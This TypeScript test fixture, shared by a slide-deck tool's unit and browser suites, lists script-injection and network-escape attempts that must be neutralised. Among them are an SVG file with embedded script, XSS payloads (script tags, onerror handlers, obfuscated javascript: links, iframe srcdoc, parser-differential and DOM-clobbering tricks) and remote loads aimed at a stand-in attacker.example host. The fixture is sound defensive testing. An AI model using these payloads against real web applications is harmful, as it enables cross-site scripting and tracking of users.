// Script-injection and network-escape attempts a slide author (or a pasted slide) might
// contain. Each is one slide; none may run script or make the page load anything from
// outside the deck folder. Shared by the unit suite and the browser suite.

export interface Attempt {
  name: string;
  markdown: string;
}

/** An SVG file in the attacking deck, referenced by several attempts. */
export const evilSvg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50" onload="window.__pwned='svg-onload'">
  <script>window.__pwned = 'svg-script'</script>
  <style>@import url(https://attacker.example/x.css); body { background: url(https://attacker.example/bg.png) }</style>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.__pwned='fo'"/></body></foreignObject>
  <a xlink:href="javascript:window.__pwned='svg-a'"><text x="5" y="20" onclick="window.__pwned='svg-click'">click</text></a>
  <image href="https://attacker.example/i.png" width="10" height="10"/>
  <use href="https://attacker.example/sprite.svg#x"/>
  <rect width="10" height="10" fill="url(https://attacker.example/p.svg#g)" style="fill:url(https://attacker.example/s.svg#g)"/>
  <set attributeName="onmouseover" to="window.__pwned='set'"/>
  <animate attributeName="href" to="javascript:window.__pwned='animate'"/>
</svg>`;

export const injectionAttempts: Attempt[] = [
  { name: 'script tag', markdown: '<script>window.__pwned = "script"; alert(1)</script>' },
  { name: 'script tag, odd casing and attributes', markdown: '<ScRiPt type="text/javascript">window.__pwned = 1</sCrIpT>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, upper case and slash separator', markdown: '<IMG SRC="x" ONERROR="window.__pwned=2"> <img/src="x"/OnErRoR="alert(1)">' },
  { name: 'event handlers on ordinary tags', markdown: '<p onmouseover="window.__pwned=3" onclick="alert(1)" style="display:block;height:600px">hover me</p>' },
  { name: 'autofocus onfocus', markdown: '<input autofocus onfocus="window.__pwned=4"><details open ontoggle="alert(1)">x</details>' },
  { name: 'body/svg onload', markdown: '<body onload="alert(1)"><svg onload="window.__pwned=5"></svg>' },
  { name: 'javascript: link', markdown: '<a href="javascript:window.__pwned=6">click</a>' },
  { name: 'javascript: with entities, tab and newline', markdown: '<a href="jav&#x09;ascript:alert(1)">a</a> <a href="&#106;avascript:alert(1)">b</a> <a href="java\nscript:alert(1)">c</a> <a href=" &#14; javascript:alert(1)">d</a>' },
  { name: 'vbscript and data:text/html links', markdown: '<a href="vbscript:msgbox(1)">v</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>' },
  { name: 'markdown link to javascript:', markdown: '[click me](javascript:alert(1)) [and me](JAVASCRIPT:alert(1) "t") [ref]\n\n[ref]: javascript:alert(1)' },
  { name: 'autolinks', markdown: '<javascript:alert(1)> <vbscript:x> <data:text/html,x>' },
  { name: 'iframe and srcdoc', markdown: '<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe><iframe src="https://attacker.example"></iframe>' },
  { name: 'object, embed', markdown: '<object data="https://attacker.example/x.swf"></object><embed src="javascript:alert(1)">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://attacker.example">' },
  { name: 'base href', markdown: '<base href="https://attacker.example/">\n\n![relative](pic.png)' },
  { name: 'link stylesheet and style import', markdown: '<link rel="stylesheet" href="https://attacker.example/x.css"><style>@import "https://attacker.example/y.css"; .reveal{background:url(https://attacker.example/z.png)}</style>' },
  { name: 'form posting away', markdown: '<form action="https://attacker.example"><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'remote images', markdown: '![remote](https://attacker.example/a.png) <img src="//attacker.example/b.png"> <img src="\\\\attacker.example\\c.png"> <img srcset="https://attacker.example/d.png 2x">' },
  { name: 'remote video, audio, poster, source', markdown: '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video><audio><source src="http://attacker.example/a.mp3"></audio>' },
  { name: 'lazy data-src picked up by reveal.js', markdown: '<img data-src="https://attacker.example/lazy.png"><video data-src="https://attacker.example/lazy.mp4"></video>' },
  { name: 'inline style loading a remote picture', markdown: '<div style="background-image:url(https://attacker.example/s.png);width:100px;height:100px">x</div><div style="background:u\\72l(https://attacker.example/t.png)">y</div>' },
  { name: '.slide: background iframe with javascript:', markdown: '<!-- .slide: data-background-iframe="javascript:parent.__pwned=8" -->\n# iframe' },
  { name: '.slide: remote background image and video', markdown: '<!-- .slide: data-background-image="https://attacker.example/bg.png" data-background-video="https://attacker.example/bg.mp4" -->\n# bg' },
  { name: '.slide: event handler and background shorthand', markdown: '<!-- .slide: onclick="window.__pwned=9" data-background="https://attacker.example/bg2.png" data-background-gradient="url(https://attacker.example/g.png)" -->\n# on' },
  { name: '.element: onclick and lazy source', markdown: 'click the paragraph\n<!-- .element: onclick="window.__pwned=10" data-src="https://attacker.example/e.png" style="height:500px" -->' },
  { name: 'HTML comment tricks', markdown: '<!-- --><script>window.__pwned=11</script><!-- -->\n\n<!--> <img src=x onerror=alert(1)> -->\n\n<!-- .element: class="x" --><img src=x onerror="window.__pwned=12">' },
  { name: 'malformed tags and attribute breaking', markdown: '<img src="x` `<script>window.__pwned=13</script>"` `>\n\n<a href="#" title="</a><img src=x onerror=alert(1)>">t</a>\n\n<<script>window.__pwned=14//<</script>' },
  { name: 'svg image file with script, handlers and remote references', markdown: '![diagram](evil.svg)' },
  { name: 'inline svg and math', markdown: '<svg><script>window.__pwned=15</script><a href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>' },
  { name: 'template and noscript parser differentials', markdown: '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'id clobbering the runtime settings', markdown: '<div id="deck-runtime">{"reveal":{}}</div><a id="deck-runtime" name="deck-runtime">x</a>' },
  { name: 'code fence cannot break out', markdown: '```html\n</code></pre><script>window.__pwned=16</script>\n```' },
];
